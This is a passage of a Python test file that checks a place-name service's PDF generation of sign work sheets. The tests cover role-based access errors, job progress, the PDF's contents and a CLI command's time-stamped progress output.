    status_url, pdf_url = f"{url}/{job['job_id']}", f"{url}/{job['job_id']}/pdf"
    assert client.get(pdf_url, headers=as_("officer")).status_code == 409  # not drawn yet
    for path in (status_url, pdf_url):
        assert client.get(path).status_code == 401
        assert client.get(path, headers=as_("planner")).status_code == 403
        assert client.get(path, headers=as_("gridworker")).status_code == 403
    assert client.get(f"{url}/999999", headers=as_("officer")).status_code == 404
    unknown = client.post(url, params={"town": "不存在镇"}, headers=as_("officer"))
    assert unknown.status_code == 400 and town in unknown.text  # names the towns there are
    drain(pn_db)  # a real worker of the task queue draws it
    done = client.get(status_url, headers=as_("admin")).json()
    pages = -(-count // 18)
    assert done["status"] == "done", done
    assert done["progress"] == {"done": pages, "total": pages, "unit": "页"}
    assert done["pdf"] == pdf_url
    r = client.get(pdf_url, headers=as_("officer"))
    assert (
        r.status_code == 200 and r.headers["content-type"] == "application/pdf" and r.content[:5] == b"%PDF-"
    )
    _assert_sheets_of_town(_pdf_text(r.content, tmp_path), town, todo)
    # A new request after it finished is a new job.
    again = client.post(url, params=params, headers=as_("officer")).json()
    assert again["job_id"] != job["job_id"]
    drain(pn_db)


def test_cli_sign_sheets_pdf(pn_db, monkeypatch, tmp_path, client, as_):
    from typer.testing import CliRunner

    from api.cli.names import app

    monkeypatch.setenv("DATABASE_URL", pn_db)
    out = tmp_path / "signs.pdf"
    done = CliRunner().invoke(app, ["signs", "--status", "待拆除", "--pdf", str(out)], terminal_width=200)
    assert done.exit_code == 0, done.output
    assert str(out) in done.output
    # Not a terminal: time-stamped progress lines, from 0 pages to every page of the sheets.
    pages = len(_pdf_text(out.read_bytes(), tmp_path).rstrip("\f").split("\f"))
    lines = [ln for ln in done.stderr.splitlines() if ln.startswith("[标志工作单 ")]
    assert re.fullmatch(r"\[标志工作单 +[0-9.]+ s\] .*绘制.*", lines[0]), lines
    counts = [
        tuple(map(int, m.groups())) for ln in lines if (m := re.search(r"s\] (\d+) / (\d+) 页 pages$", ln))
    ]
    assert counts[0] == (0, pages) and counts[-1] == (pages, pages), lines
    route = client.get("/placenames/signs", params={"status": "待拆除"}, headers=as_("officer")).json()
    flat = _printable(_pdf_text(out.read_bytes(), tmp_path))
    assert route and all(_printable(r["sign_chinese"]) in flat for r in route)
    for town in {r["town"] or "未定镇街" for r in route}:
        assert f"{town}地名标志工作单（待拆除）" in flat
